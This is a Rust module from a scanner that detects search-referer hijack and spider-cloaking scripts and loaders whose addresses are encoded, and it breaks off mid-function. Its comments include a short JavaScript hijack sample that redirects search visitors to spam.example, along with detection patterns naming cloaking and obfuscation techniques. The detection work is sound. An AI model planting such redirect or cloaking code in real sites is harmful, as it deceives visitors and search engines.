//! What a script does with its visitor: the evidence for
//! `script.conditional-redirect`, read from the tokens [`super::read`]
//! already has (one more linear pass; no regex over the source).
//!
//! The search-referer hijack reads `document.referrer` (or the user agent,
//! or a cookie), compares it with the names of search engines, spiders or
//! devices, and then sends the visitor elsewhere or writes content:
//!
//! ```js
//! var regexp=/\.(sogou|soso|baidu|google)(\.[a-z0-9\-]+){1,2}\//ig;
//! var where=document.referrer;
//! if(regexp.test(where)){ window.location.href="https://spam.example"; }
//! ```
//!
//! So a script is summed up as three sets: the *sources* it reads, the
//! *names* it compares them with, and the *sinks* it calls. A name counts
//! only where a comparison puts it — a regex literal, a literal that is
//! nothing but names (`"baidu"`, `"www.sogou.com"`, `'iPhone'`), or a
//! literal handed to `indexOf`/`==`/`new RegExp` — and only within
//! [`WINDOW`] tokens of a source read, so a URL such as
//! `https://hm.baidu.com/hm.js` in statistics code names nothing, and a
//! long `common.js` that reads the referrer in one place and holds a
//! device list two thousand tokens later is not taken for one condition.
//! Code a script runs from a string (eval, the packer) is read again by the
//! caller and its behaviour added to the script's ([`Behaviour::absorb`]),
//! so the decision is made once per script.
//!
//! The decision ([`Behaviour::conditional`]) is in that function's comment.

use super::Tok;
use url::Url;

/// Names further than this many tokens from every source read are not
/// taken as compared with it. The real hijacks hold their names within 20
/// tokens of the read (the regex on the line before, `indexOf` right
/// after); a function checking the referrer and another checking the
/// device in one file are within a few hundred.
pub const WINDOW: usize = 300;
/// Bounds per script: source reads and name occurrences remembered,
/// navigation targets and loaded URLs kept.
const MAX_READS: usize = 64;
const MAX_NAMES: usize = 256;
pub(super) const MAX_URLS: usize = 32;
/// Literals longer than this are not read for names (a name list is short;
/// a long literal is markup or data).
const MAX_NAME_LITERAL: usize = 256;
/// Regex sources longer than this are read only this far.
const MAX_PATTERN: usize = 2048;
/// An excerpt of the code around the first source read, in bytes.
const EXCERPT_BEFORE: usize = 80;
const EXCERPT_AFTER: usize = 200;

/// Visitor properties a script reads.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Sources {
    /// `document.referrer`.
    pub referrer: bool,
    /// `navigator.userAgent`, `.platform`, `.appVersion`.
    pub user_agent: bool,
    /// `document.cookie` (read, not only set).
    pub cookie: bool,
    /// The visitor's region, as an IP-location script leaves it in a
    /// global (`remote_ip_info` from Sina's lookup, `returnCitySN` from
    /// Sohu's): kits send visitors of some cities, where the office that
    /// checks the site sits, away.
    pub region: bool,
}

impl Sources {
    fn of(kinds: u8) -> Sources {
        Sources {
            referrer: kinds & REFERRER != 0,
            user_agent: kinds & USER_AGENT != 0,
            cookie: kinds & COOKIE != 0,
            region: kinds & REGION != 0,
        }
    }

    /// `referrer`, `user-agent`, `cookie`, joined with `+`.
    pub fn key(self) -> String {
        let mut v = Vec::new();
        if self.referrer {
            v.push("referrer");
        }
        if self.user_agent {
            v.push("user-agent");
        }
        if self.cookie {
            v.push("cookie");
        }
        if self.region {
            v.push("region");
        }
        v.join("+")
    }
}

/// What a script does that a visitor would notice.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Sinks {
    /// `location = …`, `location.href = …`, `.replace(…)`, `.assign(…)`,
    /// `top.location`, `opener.navigate(…)`.
    pub location: bool,
    /// `window.open(…)` (not `xhr.open`).
    pub open: bool,
    /// A `<meta http-equiv=refresh>` in a string it holds (to write).
    pub meta_refresh: bool,
    /// `document.write(…)`, `writeln`, jQuery `.html('<…')`/`.append('<…')`.
    pub write: bool,
    /// `innerHTML =`, `outerHTML =`, `insertAdjacentHTML(…)`.
    pub inner_html: bool,
    /// `createElement('script' | 'iframe' | 'frame' | 'embed' | 'object')`.
    pub create_element: bool,
    /// `x.src = <not a literal>`, `setAttribute('src', …)`: loads an
    /// address the code computes. Not part of [`Sinks::writes`]: a
    /// condition is judged on what it writes, as before; an address the
    /// script decodes is judged on this too ([`Behaviour::encoded`]).
    pub load: bool,
    /// `eval(…)`, `Function(…)` of what the code computes (not a literal):
    /// runs code it built. Like `load`, judged only beside
    /// an address the script hides.
    pub run: bool,
}

impl Sinks {
    /// Sends the visitor to another address.
    pub fn navigates(self) -> bool {
        self.location || self.open || self.meta_refresh
    }

    /// Puts content into the page.
    pub fn writes(self) -> bool {
        self.write || self.inner_html || self.create_element
    }

    fn or(&mut self, o: Sinks) {
        self.location |= o.location;
        self.open |= o.open;
        self.meta_refresh |= o.meta_refresh;
        self.write |= o.write;
        self.inner_html |= o.inner_html;
        self.create_element |= o.create_element;
        self.load |= o.load;
        self.run |= o.run;
    }

    fn names(self, navigation_only: bool) -> Vec<&'static str> {
        let mut v = Vec::new();
        for (on, name, nav) in [
            (self.location, "location", true),
            (self.open, "window.open", true),
            (self.meta_refresh, "meta-refresh", true),
            (self.write, "document.write", false),
            (self.inner_html, "innerHTML", false),
            (self.create_element, "createElement", false),
            (self.load, "src", false),
            (self.run, "eval", false),
        ] {
            if on && (nav || !navigation_only) {
                v.push(name);
            }
        }
        v
    }
}

/// Kinds of source read.
const REFERRER: u8 = 1;
const USER_AGENT: u8 = 2;
const COOKIE: u8 = 4;
const REGION: u8 = 8;

/// Globals IP-location scripts define for the page to read.
const REGION_GLOBALS: &[&str] = &["remote_ip_info", "returnCitySN"];

/// What a script reads, compares and does, each with its token position
/// (code it runs from strings: at the position of the call that runs it).
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Behaviour {
    /// Source reads: position and kind (`REFERRER` …).
    reads: Vec<(usize, u8)>,
    /// Names in comparisons: position, name, class.
    names: Vec<(usize, &'static str, Class)>,
    /// Sinks: position and what.
    sinks: Vec<(usize, Sinks)>,
    /// Navigation targets as written: the sink's position and the literal.
    targets: Vec<(usize, String)>,
    /// URLs it loads by `x.src = '…'` (as written).
    pub loads: Vec<String>,
    /// Web addresses in its string values: position, address, and whether
    /// the source hides it (its host is not in the source as written:
    /// decoded, escaped, joined from pieces; or in code run from a decoded
    /// string).
    pub(super) urls: Vec<(usize, String, bool)>,
    /// Positions of the calls that run code from strings, in the order of
    /// [`super::Script::evals`].
    pub(super) runs: Vec<usize>,
    /// The code around the first source read.
    pub excerpt: String,
}

/// A script that sends visitors elsewhere or writes content depending on
/// who they are or where they come from.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Conditional {
    pub sources: Sources,
    /// The names it compares with, sorted.
    pub names: Vec<&'static str>,
    /// What it does, in [`Sinks`] order.
    pub sinks: Vec<&'static str>,
    /// Where it sends the visitor, when the code says so in a literal.
    pub target: Option<String>,
    pub excerpt: String,
}

impl Conditional {
    /// A stable key: `referrer:baidu,sogou->location` (at most 6 names).
    pub fn term(&self) -> String {
        let names: Vec<&str> = self.names.iter().take(6).copied().collect();
        format!(
            "{}:{}{}->{}",
            self.sources.key(),
            names.join(","),
            if self.names.len() > names.len() {
                ",…"
            } else {
                ""
            },
            self.sinks.join("+")
        )
    }

    /// The evidence, for the finding's snippet.
    pub fn cause(&self) -> String {
        let mut read = Vec::new();
        if self.sources.referrer {
            read.push("document.referrer");
        }
        if self.sources.user_agent {
            read.push("navigator.userAgent");
        }
        if self.sources.cookie {
            read.push("document.cookie");
        }
        if self.sources.region {
            read.push("the visitor's region (IP lookup)");
        }
        let target = self
            .target
            .as_ref()
            .map(|t| format!(" (to {t})"))
            .unwrap_or_default();
        format!(
            "reads {}, compares {} with {}, then {}{target}: {}",
            read.join(" and "),
            if read.len() > 1 { "them" } else { "it" },
            self.names.join(", "),
            self.sinks.join(", "),
            self.excerpt
        )
    }
}

/// A script that loads or navigates to a web address its source does not
/// show: decoded from base64, escapes or character codes, joined from
/// pieces, or in code run from a decoded string (`script.encoded-url`).
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Encoded {
    /// The address, decoded and resolved.
    pub url: String,
    /// What the script does near it, in [`Sinks`] order.
    pub sinks: Vec<&'static str>,
}

impl Encoded {
    /// A stable key: `host->createElement+src`.
    pub fn term(&self) -> String {
        let host = Url::parse(&self.url)
            .ok()
            .and_then(|u| u.host_str().map(str::to_string))
            .unwrap_or_else(|| self.url.clone());
        format!("{host}->{}", self.sinks.join("+"))
    }

    /// The evidence, for the finding's snippet.
    pub fn cause(&self) -> String {
        format!(
            "holds {} only encoded, and near it {}",
            self.url,
            self.sinks.join(", ")
        )
    }
}

/// What kind of name.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Class {
    /// A search engine (or its domain).
    Engine,
    /// An engine name that is also an ordinary word or number (`so`, `sm`,
    /// `360`, `qq`): counts only beside an unambiguous engine or spider.
    Weak,
    Spider,
    Device,
    /// Allowed in a name-only literal (`www.baidu.com`), not a name.
    Filler,
}

const NAMES: &[(&str, Class)] = &[
    ("baidu", Class::Engine),
    ("sogou", Class::Engine),
    ("soso", Class::Engine),
    ("haosou", Class::Engine),
    ("shenma", Class::Engine),
    ("google", Class::Engine),
    ("bing", Class::Engine),
    ("yahoo", Class::Engine),
    ("youdao", Class::Engine),
    ("toutiao", Class::Engine),
    ("yisou", Class::Engine),
    ("gougou", Class::Engine),
    ("biso", Class::Engine),
    ("118114", Class::Engine),
    ("zhongsou", Class::Engine),
    ("chinaso", Class::Engine),
    ("panguso", Class::Engine),
    ("easou", Class::Engine),
    ("qihoo", Class::Engine),
    ("yandex", Class::Engine),
    ("sooule", Class::Engine),
    ("so", Class::Weak),
    ("sm", Class::Weak),
    ("360", Class::Weak),
    ("qq", Class::Weak),
    ("163", Class::Weak),
    ("msn", Class::Weak),
    ("spider", Class::Spider),
    ("bot", Class::Spider),
    ("robot", Class::Spider),
    ("crawler", Class::Spider),
    ("slurp", Class::Spider),
    ("baiduspider", Class::Spider),
    ("googlebot", Class::Spider),
    ("bingbot", Class::Spider),
    ("msnbot", Class::Spider),
    ("360spider", Class::Spider),
    ("haosouspider", Class::Spider),
    ("sosospider", Class::Spider),
    ("yisouspider", Class::Spider),
    ("bytespider", Class::Spider),
    ("youdaobot", Class::Spider),
    ("yandexbot", Class::Spider),
    ("petalbot", Class::Spider),
    ("iphone", Class::Device),
    ("ipad", Class::Device),
    ("ipod", Class::Device),
    ("android", Class::Device),
    ("mobile", Class::Device),
    ("mobi", Class::Device),
    ("phone", Class::Device),
    ("blackberry", Class::Device),
    ("webos", Class::Device),
    ("symbian", Class::Device),
    ("symbianos", Class::Device),
    ("ucweb", Class::Device),
    ("midp", Class::Device),
    ("nokia", Class::Device),
    ("harmonyos", Class::Device),
    ("micromessenger", Class::Device),
    ("win", Class::Device),
    ("win32", Class::Device),
    ("win64", Class::Device),
    ("windows", Class::Device),
    ("mac", Class::Device),
    ("macintosh", Class::Device),
    ("linux", Class::Device),
    ("x11", Class::Device),
    ("www", Class::Filler),
    ("m", Class::Filler),
    ("com", Class::Filler),
    ("cn", Class::Filler),
    ("net", Class::Filler),
    ("org", Class::Filler),
];

/// Two tokens that make one unambiguous engine domain.
const DOMAINS: &[(&str, &str, &str)] = &[
    ("so", "com", "so.com"),
    ("sm", "cn", "sm.cn"),
    ("360", "cn", "360.cn"),
];

fn class_of(token: &str) -> Option<(&'static str, Class)> {
    NAMES
        .iter()
        .find(|(n, _)| n.eq_ignore_ascii_case(token))
        .map(|&(n, c)| (n, c))
}

/// Names in `text` (split at every byte that is not an ASCII letter or
/// digit). With `whole`, only when the text is nothing but names and
/// fillers (`"www.baidu.com"`, `"iPhone"`), else none.
fn names_in(text: &str, whole: bool, out: &mut Vec<(&'static str, Class)>) {
    let tokens: Vec<&str> = text
        .split(|c: char| !c.is_ascii_alphanumeric())
        .filter(|t| !t.is_empty())
        .collect();
    if whole
        && (text.len() > 64 || tokens.is_empty() || !tokens.iter().all(|t| class_of(t).is_some()))
    {
        return;
    }
    let mut k = 0;
    while k < tokens.len() {
        let t = tokens[k];
        if let Some(next) = tokens.get(k + 1) {
            if let Some(&(_, _, d)) = DOMAINS
                .iter()
                .find(|(a, b, _)| t.eq_ignore_ascii_case(a) && next.eq_ignore_ascii_case(b))
            {
                out.push((d, Class::Engine));
                k += 2;
                continue;
            }
        }
        if let Some((n, c)) = class_of(t) {
            if c != Class::Filler {
                out.push((n, c));
            }
        }
        k += 1;
    }
}

/// Methods whose string argument is compared with something.
const COMPARES: &[&str] = &[
    "indexOf",
    "lastIndexOf",
    "includes",
    "search",
    "match",
    "test",
    "startsWith",
    "endsWith",
    "RegExp",
];

/// Tags whose creation loads or shows something from elsewhere.
const LOADING_TAGS: &[&str] = &["script", "iframe", "frame", "embed", "object"];

/// One pass over a script's tokens; `code` is its source without comments
/// (for the excerpt).
pub(super) fn read(toks: &[Tok], code: &str) -> Behaviour {
    let mut b = Behaviour::default();
    let word = |i: usize| match toks.get(i) {
        Some(Tok::Word(w)) => Some(*w),
        _ => None,
    };
    let punct = |i: usize, c: u8| toks.get(i) == Some(&Tok::Punct(c));
    // `=` that assigns: not `==`, `=>`.
    let assigns = |i: usize| punct(i, b'=') && !punct(i + 1, b'=') && !punct(i + 1, b'>');
    // A property name, written `.name` or `['name']`.
    let property = |i: usize, name: &str| match &toks[i] {
        Tok::Word(w) => *w == name && i > 0 && punct(i - 1, b'.'),
        Tok::Str(s) => s == name && i > 0 && punct(i - 1, b'['),
        _ => false,
    };
    let navigator_before = |i: usize| {
        i >= 2 && (punct(i - 1, b'.') || punct(i - 1, b'[')) && word(i - 2) == Some("navigator")
    };
    // After a property written `['name']`, the index past the `]`.
    let after = |i: usize| {
        if matches!(toks[i], Tok::Str(_)) {
            i + 2
        } else {
            i + 1
        }
    };
    let sink = |b: &mut Behaviour, at: usize, s: Sinks| {
        if b.sinks.len() < MAX_SINKS {
            b.sinks.push((at, s));
        }
    };
    for i in 0..toks.len() {
        // Sources.
        let kind = if property(i, "referrer") {
            REFERRER
        } else if matches!(&toks[i], Tok::Word("userAgent"))
            || matches!(&toks[i], Tok::Str(s) if s == "userAgent")
            || ((property(i, "platform") || property(i, "appVersion")) && navigator_before(i))
        {
            USER_AGENT
        } else if property(i, "cookie") && !assigns(after(i)) {
            COOKIE
        } else if matches!(&toks[i], Tok::Word(w) if REGION_GLOBALS.contains(w)) {
            REGION
        } else {
            0
        };
        if kind != 0 && b.reads.len() < MAX_READS {
            b.reads.push((i, kind));
        }
        // Names.
        let mut found: Vec<(&'static str, Class)> = Vec::new();
        match &toks[i] {
            Tok::Regex(src) => {
                let mut end = src.len().min(MAX_PATTERN);
                while !src.is_char_boundary(end) {
                    end -= 1;
                }
                names_in(&src[..end], false, &mut found);
            }
            Tok::Str(s) if s.len() <= MAX_NAME_LITERAL => {
                // An argument of `indexOf(` and the like, or a side of
                // `==`/`!=`/`===`.
                let argument = i >= 2
                    && punct(i - 1, b'(')
                    && word(i - 2).is_some_and(|w| COMPARES.contains(&w));
                let compared_after =
                    i >= 2 && punct(i - 1, b'=') && (punct(i - 2, b'=') || punct(i - 2, b'!'));
                let compared_before = punct(i + 1, b'=') && punct(i + 2, b'=')
                    || punct(i + 1, b'!') && punct(i + 2, b'=');
                let compared =
                    (argument || compared_after || compared_before) && !s.contains("://");
                names_in(s, !compared, &mut found);
            }
            _ => {}
        }
        for (n, c) in found {
            if b.names.len() < MAX_NAMES {
                b.names.push((i, n, c));
            }
        }
        // Sinks.
        match &toks[i] {
            Tok::Word("location") => {
                let nav = if assigns(i + 1) {
                    Some(i + 2)
                } else if punct(i + 1, b'.') {
                    match word(i + 2) {
                        Some("href") if assigns(i + 3) => Some(i + 4),
                        Some("replace" | "assign") if punct(i + 3, b'(') => Some(i + 4),
                        _ => None,
                    }
                } else if punct(i + 1, b'[')
                    && matches!(toks.get(i + 2), Some(Tok::Str(s)) if s == "href")
                    && punct(i + 3, b']')
                    && assigns(i + 4)
                {
                    Some(i + 5)
                } else {
                    None
                };
                // `top.location = self.location`: frame busting, the page
                // itself, sends nobody elsewhere.
                let to_itself = |from: usize| {
                    matches!(
                        word(from),
                        Some("self" | "window" | "document" | "location")
                    ) && toks[from..]
                        .iter()
                        .take(7)
                        .take_while(|t| matches!(t, Tok::Word(_) | Tok::Punct(b'.')))
                        .any(|t| matches!(t, Tok::Word("location")))
                };
                if let Some(from) = nav.filter(|&f| !to_itself(f)) {
                    sink(
                        &mut b,
                        i,
                        Sinks {
                            location: true,
                            ..Sinks::default()
                        },
                    );
                    target(toks, i, from, &mut b.targets);
                }
            }
            Tok::Word("navigate") if punct(i + 1, b'(') => {
                sink(
                    &mut b,
                    i,
                    Sinks {
                        location: true,
                        ..Sinks::default()
                    },
                );
                target(toks, i, i + 2, &mut b.targets);
            }
            Tok::Word("open") if punct(i + 1, b'(') => {
                let window = !(i > 0 && punct(i - 1, b'.'))
                    || (i >= 2
                        && matches!(word(i - 2), Some("window" | "top" | "parent" | "self")));
                if window {
                    sink(
                        &mut b,
                        i,
                        Sinks {
                            open: true,
                            ..Sinks::default()
                        },
                    );
                    target(toks, i, i + 2, &mut b.targets);
                }
            }
            Tok::Word("write" | "writeln") if i > 0 && punct(i - 1, b'.') && punct(i + 1, b'(') => {
                sink(
                    &mut b,
                    i,
                    Sinks {
                        write: true,
                        ..Sinks::default()
                    },
                );
            }
            Tok::Word("innerHTML" | "outerHTML")
                if assigns(i + 1) || (punct(i + 1, b'+') && punct(i + 2, b'=')) =>
            {
                sink(
                    &mut b,
                    i,
                    Sinks {
                        inner_html: true,
                        ..Sinks::default()
                    },
                );
            }
            Tok::Word("insertAdjacentHTML") if punct(i + 1, b'(') => {
                sink(
                    &mut b,
                    i,
                    Sinks {
                        inner_html: true,
                        ..Sinks::default()
                    },
                );
            }
            Tok::Word("createElement") if punct(i + 1, b'(') => {
                if let Some(Tok::Str(tag)) = toks.get(i + 2) {
                    if LOADING_TAGS.iter().any(|t| t.eq_ignore_ascii_case(tag)) {
                        sink(
                            &mut b,
                            i,
                            Sinks {
                                create_element: true,
                                ..Sinks::default()
                            },
                        );
                    }
                }
            }
            Tok::Word("html" | "append" | "prepend" | "after" | "before" | "replaceWith")
                if i > 0 && punct(i - 1, b'.') && punct(i + 1, b'(') =>
            {
                if matches!(toks.get(i + 2), Some(Tok::Str(s)) if s.contains('<')) {
                    sink(
                        &mut b,
                        i,
                        Sinks {
                            write: true,
                            ..Sinks::default()
                        },
                    );
                }
            }
            Tok::Word("src") if i > 0 && punct(i - 1, b'.') && assigns(i + 1) => {
                if let Some(Tok::Str(s)) = toks.get(i + 2) {
                    push_bounded(&mut b.loads, s);
                } else {
                    sink(
                        &mut b,
                        i,
                        Sinks {
                            load: true,
                            ..Sinks::default()
                        },
                    );
                }
            }
            // (Not setTimeout: its argument is a function, mostly.)
            Tok::Word("eval" | "Function" | "execScript")
                if punct(i + 1, b'(') && !matches!(toks.get(i + 2), Some(Tok::Str(_))) =>
            {
                sink(
                    &mut b,
                    i,
                    Sinks {
                        run: true,
                        ..Sinks::default()
                    },
                );
            }
            Tok::Word("setAttribute")
                if punct(i + 1, b'(')
                    && matches!(toks.get(i + 2), Some(Tok::Str(s)) if s.eq_ignore_ascii_case("src")) =>
            {
                sink(
                    &mut b,
                    i,
                    Sinks {
                        load: true,
                        ..Sinks::default()
                    },
                );
            }
            Tok::Str(s) => {
                let lower = s.to_ascii_lowercase();
                if lower.contains("http-equiv") && lower.contains("refresh") {
                    sink(
                        &mut b,
                        i,
                        Sinks {
                            meta_refresh: true,
                            ..Sinks::default()
                        },
                    );
                    if let Some(at) = lower.find("url=") {
                        let rest = s[at + 4..].trim_start();
                        let end = rest
                            .find(|c: char| c == '"' || c == '\'' || c == '>' || c.is_whitespace())
                            .unwrap_or(rest.len());
                        if b.targets.len() < MAX_URLS {
                            b.targets.push((i, rest[..end].to_string()));
                        }
                    }
                }
            }
            _ => {}
        }
    }
    b.excerpt = excerpt(code, b.reads.first().map(|&(_, k)| k));
    b
}

fn is_weak(name: &str) -> bool {
    class_of(name).is_some_and(|(_, c)| c == Class::Weak)
}

/// Sinks remembered per script.
const MAX_SINKS: usize = 256;

fn push_bounded(v: &mut Vec<String>, s: &str) {
    let s = s.trim();
    if !s.is_empty() && v.len() < MAX_URLS && !v.iter().any(|x| x == s) {
        v.push(s.to_string());
    }
}

/// Where a navigation goes: the first string literal of the expression
/// starting at `from` (up to `;`, a brace, or 12 tokens), so
/// `location.href = (Math.random()<.5) ? "https://a" : "https://b"` gives
/// `https://a`. A target built from variables is unknown.
fn target(toks: &[Tok], at: usize, from: usize, out: &mut Vec<(usize, String)>) {
    for t in toks.iter().skip(from).take(12) {
        match t {
            Tok::Str(s) => {
                let s = s.trim();
                if !s.is_empty() && out.len() < MAX_URLS {
                    out.push((at, s.to_string()));
                }
                return;
            }
            Tok::Punct(b';' | b'}' | b'{') => return,
            _ => {}
        }
    }
}

/// The code around the first read of a source of this kind, whitespace
/// collapsed.
fn excerpt(code: &str, kind: Option<u8>) -> String {
    let Some(kind) = kind else {
        return String::new();
    };
    let words: &[&str] = match kind {
        REFERRER => &["referrer"],
        USER_AGENT => &["userAgent", "platform", "appVersion"],
        REGION => REGION_GLOBALS,
        _ => &["cookie"],
    };
    let at = words.iter().filter_map(|w| code.find(w)).min().unwrap_or(0);
    let mut start = at.saturating_sub(EXCERPT_BEFORE);
    while !code.is_char_boundary(start) {
        start -= 1;
    }
    let mut end = (at + EXCERPT_AFTER).min(code.len());
    while !code.is_char_boundary(end) {
        end += 1;
    }
    let text: Vec<&str> = code[start..end].split_whitespace().collect();
    format!(
        "{}{}{}",
        if start > 0 { "…" } else { "" },
        text.join(" "),
        if end < code.len() { "…" } else { "" }
    )
}

impl Behaviour {
    /// Add what the `run`th code this script runs from a string does
    /// ([`super::Script::evals`]), all of it at the position of the call
    /// that runs it: the call sits inside the script's condition
    /// (`if (regexp.test(ua)) eval("document.write…")`).
    pub fn absorb(&mut self, child: &Behaviour, run: usize) {
        let at = self.runs.get(run).copied().unwrap_or(0);
        for &(_, k) in &child.reads {
            if self.reads.len() < MAX_READS {
                self.reads.push((at, k));
            }
        }
        for &(_, n, c) in &child.names {
            if self.names.len() < MAX_NAMES {
                self.names.push((at, n, c));
            }
        }
        for &(_, s) in &child.sinks {
            if self.sinks.len() < MAX_SINKS {
                self.sinks.push((at, s));
            }
        }
        for (_, t) in &child.targets {
            if self.targets.len() < MAX_URLS {
                self.targets.push((at, t.clone()));
            }
        }
        for l in &child.loads {
            push_bounded(&mut self.loads, l);
        }
        for (_, u, hidden) in &child.urls {
            if self.urls.len() < MAX_URLS {
                self.urls.push((at, u.clone(), *hidden));
            }
        }
        if self.excerpt.is_empty() {
            self.excerpt = child.excerpt.clone();
        }
    }

    /// Every address it holds counts as hidden: code run from a string
    /// that was itself decoded (`eval(atob('…'))`).
    pub fn hide_addresses(&mut self) {
        for u in &mut self.urls {
            u.2 = true;
        }
    }

    /// The decision for `script.encoded-url`: an address the source hides
    /// (decoded at run time, or joined from pieces), on another site than the
    /// page's, with something that loads, writes or navigates within
    /// [`WINDOW`] tokens of it. Injected loaders hide the address of their
    /// next stage — a custom base64 function feeding `s.src`, `atob` into
    /// `location.href`, `eval` of a decoded string — so that neither a
    /// reader nor a word list sees the domain; sites' own code
    /// writes its addresses out (a statistics loader, a partner's widget).
    /// Statistics hosts, government and education sites and the page's own
    /// domain are not counted (a page without a host, a local file, has no
    /// own domain).
    pub fn encoded(&self, base: &Url) -> Option<Encoded> {
        for (at, u, hidden) in &self.urls {
            if !hidden {
                continue;
            }
            let Some(target) = crate::urls::resolve(base, u) else {
                continue;
            };
            if !matches!(target.scheme(), "http" | "https")
                || !whole_host(&target)
                || same_site(base, &target)
                || is_statistics(u, base)
                || is_picture(&target)
            {
                continue;
            }
            let mut all = Sinks::default();
            for &(s_at, s) in &self.sinks {
                if s_at.abs_diff(*at) <= WINDOW {
                    all.or(s);
                }
            }
            if all.navigates() || all.writes() || all.load || all.run {
                return Some(Encoded {
                    url: target.to_string(),
                    sinks: all.names(false),
                });
            }
        }
        None
    }

    /// The decision. A source read ([`Sources`]) with names compared within
    /// [`WINDOW`] tokens of it and a sink within [`WINDOW`] tokens of it —
    /// condition and action in one place, not a read in one corner of a
    /// bundle and a `location =` in another — and then by the names:
    ///
    /// 1. **Search engines or named spiders, and any sink** (navigation or
    ///    writing content): a finding. No government site treats visitors
    ///    from Baidu, or Baiduspider, differently; that is the search-referer
    ///    hijack and spider cloaking. The names must say so: a Chinese
    ///    engine, a named spider (`baiduspider`, `googlebot`), or three
    ///    engines or more. One foreign engine (`google`, the analytics of
    ///    tag managers) or a generic `bot|spider` test ("no consent banner
    ///    for crawlers") is not enough. And statistics: a condition whose
    ///    only sink is `createElement` of a script from a statistics host
    ///    (Baidu tongji, CNZZ, 51.la …) is not a finding.
    /// 2. **Devices only** (`iPhone|Android`, `Win`/`Mac` platforms), or
    ///    **the visitor's region** (an IP lookup's result, compared with
    ///    city names): a finding only when the script navigates, near the
    ///    condition, to a literal address on another site than the page's.
    ///    (A company sending Beijing visitors to `bj.` of its own domain is
    ///    not one; a kit sending them to a 404 page elsewhere is.) Portals send
    ///    phones to `/m/` or `m.` of their own domain and write phone
    ///    layouts: legitimate and common, so a device condition that writes
    ///    content, or navigates to a relative address, the page's host or
    ///    its parent domain, a government or education site, or an address
    ///    built from variables, is not a finding. A page without a host (a
    ///    local file) has no site to compare with: not judged.
    ///
    /// A condition on names of neither kind (browsers: `MSIE`, `Chrome`),
    /// or a script without a sink (statistics that only read the
    /// referrer), is never one.
    pub fn conditional(&self, base: &Url) -> Option<Conditional> {
        let mut best: Option<Conditional> = None;
        for &(r, _) in &self.reads {
            let near = |at: usize| at.abs_diff(r) <= WINDOW;
            let sinks: Vec<(usize, Sinks)> = self
                .sinks
                .iter()
                .copied()
                .filter(|&(at, s)| near(at) && (s.navigates() || s.writes()))
                .collect();
            if sinks.is_empty() {
                continue;
            }
            let mut sources = 0u8;
            for &(at, k) in &self.reads {
                if near(at) {
                    sources |= k;
                }
            }
            let mut all = Sinks::default();
            for &(_, s) in &sinks {
                all.or(s);
            }
            let mut engines: Vec<&'static str> = Vec::new();
            let mut devices: Vec<&'static str> = Vec::new();
            for &(at, n, c) in &self.names {
                if near(at) {
                    let list = if c == Class::Device {
                        &mut devices
                    } else {
                        &mut engines
                    };
                    if !list.contains(&n) {
                        list.push(n);
                    }
                }
            }
            let found = if telling(&engines) {
                let stats_only = !all.navigates()
                    && !all.write
                    && !all.inner_html
                    && !self.loads.is_empty()
                    && self.loads.iter().all(|l| is_statistics(l, base));
                (!stats_only).then(|| {
                    // Unambiguous names first: they say what it waits for.
                    engines.sort_unstable_by_key(|n| (is_weak(n), *n));
                    Conditional {
                        sources: Sources::of(sources),
                        names: engines,
                        sinks: all.names(false),
                        target: self
                            .targets
                            .iter()
                            .filter(|(at, _)| near(*at))
                            .map(|(_, t)| t)
                            .find(|t| {
                                crate::urls::resolve(base, t).is_some_and(|u| u.host().is_some())
                            })
                            .cloned(),
                        excerpt: self.excerpt.clone(),
                    }
                })
            } else if (!devices.is_empty() || sources & REGION != 0)
                && all.navigates()
                && base.host().is_some()
            {
                self.targets
                    .iter()
                    .filter(|(at, _)| near(*at))
                    .map(|(_, t)| t)
                    .find(|t| {
                        crate::urls::resolve(base, t).is_some_and(|u| {
                            matches!(u.scheme(), "http" | "https") && !same_site(base, &u)
                        })
                    })
                    .map(|t| {
                        devices.sort_unstable();
                        if devices.is_empty() {
                            devices.push("region");
                        }
                        Conditional {
                            sources: Sources::of(sources),
                            names: devices,
                            sinks: all.names(true),
                            target: Some(t.clone()),
                            excerpt: self.excerpt.clone(),
                        }
                    })
            } else {
                None
            };
            // The strongest evidence: the most names.
            if let Some(f) = found {
                if best.as_ref().is_none_or(|b| f.names.len() > b.names.len()) {
                    best = Some(f);
                }
            }
        }
        best
    }
}

/// Engine and spider names that tell of a hijack (see
/// [`Behaviour::conditional`]).
fn telling(names: &[&str]) -> bool {
    let chinese_or_named_spider = names.iter().any(|n| {
        matches!(class_of(n), Some((_, Class::Engine)) if !FOREIGN.contains(n))
            || matches!(class_of(n), Some((_, Class::Spider)) if !GENERIC_SPIDER.contains(n))
            || matches!(*n, "so.com" | "sm.cn" | "360.cn")
    });
    let engines = names
        .iter()
        .filter(|n| matches!(class_of(n), Some((_, Class::Engine))) || n.contains('.'))
        .count();
    chinese_or_named_spider || engines >= 3
}

/// Engines that are not Chinese: one of them alone is analytics, not a hijack.
const FOREIGN: &[&str] = &["google", "bing", "yahoo", "yandex"];
/// Spider words that are not one spider's name.
const GENERIC_SPIDER: &[&str] = &["spider", "bot", "robot", "crawler", "slurp"];

/// Hosts of statistics and push scripts that read the referrer for their
/// owners and send nobody anywhere.
const STATISTICS: &[&str] = &[
    "hm.baidu.com",
    "cnzz.com",
    "51.la",
    "51yes.com",
    "google-analytics.com",
    "googletagmanager.com",
    "zz.bdstatic.com",
    "push.zhanzhang.baidu.com",
    "jspassport.ssl.qhimg.com",
    "tajs.qq.com",
    "pingjs.qq.com",
    "sdk.51.la",
];

fn is_statistics(url: &str, base: &Url) -> bool {
    crate::urls::resolve(base, url)
        .and_then(|u| u.host_str().map(str::to_ascii_lowercase))
        .is_some_and(|h| STATISTICS.iter().any(|s| under(&h, s)))
}

/// A host a browser could reach: an IP address, or a name of two labels
/// or more ending in letters. `https://accounts.` (then `.concat(domain)`)
/// or a base64 literal cut off after `https://code` names no host.
fn whole_host(url: &Url) -> bool {
    match url.host() {
        Some(url::Host::Domain(d)) => {
            let labels: Vec<&str> = d.split('.').collect();
            labels.len() >= 2
                && labels.iter().all(|l| !l.is_empty())
                && labels
                    .last()
                    .is_some_and(|t| t.len() >= 2 && t.bytes().all(|b| b.is_ascii_alphabetic()))
        }
        Some(_) => true,
        None => false,
    }
}

/// An image or style sheet: loads nothing that runs (Google's ad-block
/// notice decodes its warning icon's address with `atob`).
fn is_picture(url: &Url) -> bool {
    let path = url.path().to_ascii_lowercase();
